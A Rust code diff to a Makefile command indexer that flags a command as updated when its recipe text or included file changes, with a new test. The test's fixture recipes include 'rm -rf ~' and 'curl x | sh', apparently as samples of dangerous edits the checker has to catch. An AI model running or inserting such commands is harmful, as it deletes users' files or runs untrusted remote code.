@@ -496,6 +496,19 @@ fn ordered<'a>(files: impl Iterator<Item = &'a FileOutcome>) -> Vec<&'a CommandI
     rows.into_iter().flat_map(|r| r.3.iter()).collect()
 }
 
+/// Each command's text hash (`FileOutcome::texts`) by id.
+fn text_hashes<'a>(files: impl Iterator<Item = &'a FileOutcome>) -> HashMap<&'a str, u64> {
+    let mut out = HashMap::new();
+    for f in files {
+        for ((_, commands), hashes) in f.rows.iter().zip(&f.texts) {
+            for (c, h) in commands.iter().zip(hashes) {
+                out.insert(c.id.as_str(), *h);
+            }
+        }
+    }
+    out
+}
+
 /// What changed from the commands of `old` files to those of `new` files; new warnings of the
 /// `new` files that are not among `old_warnings`.
 fn diff<'a>(
@@ -508,13 +521,18 @@ fn diff<'a>(
         .into_iter()
         .map(|c| (c.id.as_str(), c))
         .collect();
+    let texts_before = text_hashes(old_files.iter().copied());
+    let texts_now = text_hashes(new.clone());
     let mut delta = Delta::default();
     let mut still: HashSet<&str> = HashSet::new();
     for c in ordered(new.clone()) {
         match before.get(c.id.as_str()) {
             Some(b) => {
                 still.insert(c.id.as_str());
-                if *b != c {
+                // Listed the same, but its text (a recipe's body, an included file) changed:
+                // what it does changed, so its findings must be redone.
+                let id = c.id.as_str();
+                if *b != c || texts_before.get(id) != texts_now.get(id) {
                     delta.updated.push(c.clone());
                 }
             }
@@ -624,6 +642,50 @@ mod tests {
         // A file no source takes changes nothing.
         write(root, "src/main.c", "int main(){}");
         assert_eq!(index.apply_changes(&["src/main.c"]), Delta::default());
+    }
+
+    #[test]
+    fn an_edit_of_a_commands_text_or_of_its_included_file_reports_it_updated() {
+        let t = workspace("texts");
+        let root = &t.0;
+        write(
+            root,
+            "Makefile",
+            "include tools.mk\n\nbuild: clean\n\techo built\n",
+        );
+        write(
+            root,
+            "tools.mk",
+            "clean:\n\techo cleaning\n\nfmt:\n\tgofmt\n",
+        );
+        let mut index = build(root);
+        assert_eq!(labels(&index.commands()), ["build", "clean", "fmt"]);
+
+        // The included file's target now deletes the home folder: listed the same, but its
+        // text changed, so it is updated (and only it).
+        write(root, "tools.mk", "clean:\n\trm -rf ~\n\nfmt:\n\tgofmt\n");
+        let d = index.apply_changes(&["tools.mk"]);
+        assert_eq!(labels(&d.updated), ["clean"]);
+        assert!(d.added.is_empty() && d.removed.is_empty());
+        same_as_fresh(&index);
+
+        // The same for a recipe of the Makefile itself.
+        write(
+            root,
+            "Makefile",
+            "include tools.mk\n\nbuild: clean\n\tcurl x | sh\n",
+        );
+        let d = index.apply_changes(&["Makefile"]);
+        assert_eq!(labels(&d.updated), ["build"]);
+        same_as_fresh(&index);
+
+        // A change elsewhere in the file that leaves the texts alone reports nothing.
+        write(
+            root,
+            "tools.mk",
+            "clean:\n\trm -rf ~\n\nfmt:\n\tgofmt\n\n# a note\n",
+        );
+        assert!(index.apply_changes(&["tools.mk"]).is_empty());
     }
 
     #[test]
